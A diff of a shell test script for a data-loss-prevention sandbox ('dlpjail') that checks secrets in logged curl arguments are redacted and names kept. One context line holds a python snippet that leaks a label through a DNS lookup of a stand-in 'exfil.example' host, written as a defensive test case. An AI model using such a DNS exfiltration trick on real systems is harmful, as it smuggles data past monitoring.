@@ -31,6 +31,13 @@ import socket
 try: socket.getaddrinfo('$LABEL.exfil.example', 443)
 except OSError: pass" 2>/dev/null
 check "a label inside a python -c script is redacted in argv" sh -c "grep -q '\"argv\":\[' '$T/ev2.jsonl' && ! grep -q '$LABEL' '$T/ev2.jsonl'"
+# short passwords with no digits: redacted by the name before them
+rm -f "$T/ev3.jsonl"
+"$DLPJAIL" --no-default-policy -q --log "$T/ev3.jsonl" curl -s --oauth2-bearer letmeinplease \
+	-H 'X-Api-Key: opensesame' -d password=hunterpass http://127.0.0.2:$h_PORT/ >/dev/null 2>&1
+check "values after a secret's name are redacted in argv, whatever their shape" \
+	sh -c "grep -q '\"argv\":\[\"curl\"' '$T/ev3.jsonl' && ! grep -Eq 'letmeinplease|opensesame|hunterpass' '$T/ev3.jsonl'"
+check "and the names stay readable" sh -c "grep -q 'oauth2-bearer' '$T/ev3.jsonl' && grep -q 'X-Api-Key: ' '$T/ev3.jsonl' && grep -q 'password=' '$T/ev3.jsonl'"
 check "ids are unique" sh -c "[ \$(grep -o '\"id\":\"[^\"]*\"' '$T/events.jsonl' | sort | uniq -d | wc -l) -eq 0 ]"
 check "the summary says how to explain a block" grep -q 'the whole story: dlpjail explain [0-9a-f]*-[0-9]* --log' "$T/stderr"
 
